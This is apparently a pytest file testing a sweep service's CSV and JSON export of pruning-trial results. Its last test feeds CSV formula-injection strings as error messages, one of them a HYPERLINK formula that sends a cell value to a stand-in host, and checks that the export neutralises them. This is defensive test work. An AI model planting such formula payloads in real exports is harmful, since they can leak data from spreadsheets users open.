"""`export`: every trial as CSV or JSON, readable back with the same figures."""
from __future__ import annotations

import csv
import io
import json

import pytest
from seed_db import seeded_copy

from sweep_service.cli import main
from sweep_service.coordinator.store import ResultStore
from sweep_service.report.export import TRIAL_COLUMNS

FAILED = [("resnet18", "fpgm", 0.6)]
GRID = dict(models=["resnet18", "mobilenet_v2"], pruners=["l1norm", "fpgm"], rates=[0.3, 0.6],
            failed=FAILED, done=8, running=1, status="running")


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    path, _ = seeded_copy(tmp_path_factory.mktemp("export"), **GRID)
    return path


@pytest.fixture(scope="module")
def stored(db):
    store = ResultStore.open_read_only(db)
    sweep = store.sweep()
    trials = store.trials(sweep["sweep_id"])
    store.engine.dispose()
    return sweep, trials


def test_csv_has_every_trial_and_column(db, stored, tmp_path, capsys):
    out = tmp_path / "t.csv"
    assert main(["export", "--db", str(db), "--format", "csv", "--output", str(out)]) == 0
    assert "wrote 10 trials" in capsys.readouterr().err
    rows = list(csv.DictReader(out.open()))
    assert tuple(rows[0]) == TRIAL_COLUMNS
    _, trials = stored
    assert len(rows) == len(trials) == 10
    by_key = {r["key"]: r for r in rows}
    for t in trials:
        row = by_key[t["key"]]
        assert row["status"] == t["status"]
        if t["accuracy"] is not None:
            assert float(row["accuracy"]) == t["accuracy"]
            assert int(row["params_after"]) == t["params_after"]
        else:
            assert row["accuracy"] == ""
    assert {r["status"] for r in rows} == {"completed", "failed", "running", "pending"}
    failed = next(r for r in rows if r["status"] == "failed")
    assert failed["error"].startswith("speedup failed: RuntimeError")
    assert "\n" in failed["error"]  # multi-line text survives CSV quoting


def test_csv_to_stdout_filtered_by_status(db, capsys):
    assert main(["export", "--db", str(db), "--status", "completed"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 7 and {r["status"] for r in rows} == {"completed"}


def test_json_has_the_sweep_and_parsed_specs(db, stored, capsys):
    assert main(["export", "--db", str(db), "--format", "json", "--output", "-"]) == 0
    data = json.loads(capsys.readouterr().out)
    sweep, trials = stored
    assert data["sweep"]["sweep_id"] == sweep["sweep_id"]
    assert data["sweep"]["status"] == "running"
    assert data["sweep"]["config"]["models"] == ["resnet18", "mobilenet_v2"]
    assert data["sweep"]["versions"]["torch"] == "2.14.1"
    assert data["sweep"]["counts"] == {"completed": 7, "failed": 1, "skipped": 0, "running": 1, "pending": 1}
    assert len(data["trials"]) == len(trials)
    first = data["trials"][0]
    assert set(first) == (set(TRIAL_COLUMNS) - {"spec_json"}) | {"spec"}
    assert first["spec"]["model"] == first["model"]
    done = [t for t in data["trials"] if t["status"] == "completed"]
    assert all(t["finished_at"] and "T" in t["finished_at"] for t in done)  # ISO 8601


def test_format_follows_the_file_suffix(db, tmp_path):
    out = tmp_path / "sub" / "trials.json"
    assert main(["export", "--db", str(db), "--output", str(out)]) == 0
    assert len(json.loads(out.read_text())["trials"]) == 10


def test_missing_database_or_sweep(tmp_path, db, capsys):
    assert main(["export", "--db", str(tmp_path / "none.db")]) == 2
    assert "no results database" in capsys.readouterr().err
    assert main(["export", "--db", str(db), "--sweep", "nope"]) == 2
    assert "no sweep 'nope'" in capsys.readouterr().err


@pytest.mark.parametrize("error", ['=HYPERLINK("http://x.example/?"&A1,"details")', "+1+2", "-2+3", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
def test_csv_cells_that_would_run_as_formulas_are_written_as_text(tmp_path, capsys, error):
    """An error text is whatever a plugin raised: opened in a spreadsheet, a cell starting
    with =, +, -, @, a tab or a carriage return would run as a formula."""
    from seed_db import seed_sweep

    db = tmp_path / "f.db"
    sweep_id = seed_sweep(db, models=["resnet18"], pruners=["l1norm"], rates=[0.5], done=1)
    with ResultStore(db) as store:
        pending = store.trials(sweep_id, status="pending")[0]
        store.record(sweep_id, pending["key"], {"status": "failed", "error": error, "accuracy_drop": -0.25})
    assert main(["export", "--db", str(db)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    failed = next(r for r in rows if r["status"] == "failed")
    assert failed["error"] == "'" + error
    assert failed["accuracy_drop"] == "-0.25"  # numbers stay numbers
    assert main(["export", "--db", str(db), "--format", "json"]) == 0  # JSON is not for spreadsheets
    assert error in [t["error"] for t in json.loads(capsys.readouterr().out)["trials"]]
